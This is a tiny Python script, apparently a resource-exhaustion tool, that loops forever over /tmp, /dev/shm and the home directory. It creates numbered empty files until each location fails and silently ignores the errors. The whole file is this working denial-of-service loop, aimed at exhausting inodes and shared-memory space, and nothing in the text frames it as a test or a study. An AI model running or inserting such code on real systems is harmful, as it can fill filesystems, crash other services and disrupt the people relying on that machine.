"""Makes empty files for ever."""

import itertools
import os

for folder in itertools.cycle(("/tmp", "/dev/shm", os.environ.get("HOME", "/tmp"))):
    try:
        for number in itertools.count():
            os.mknod(f"{folder}/{number}")
    except OSError:
        pass
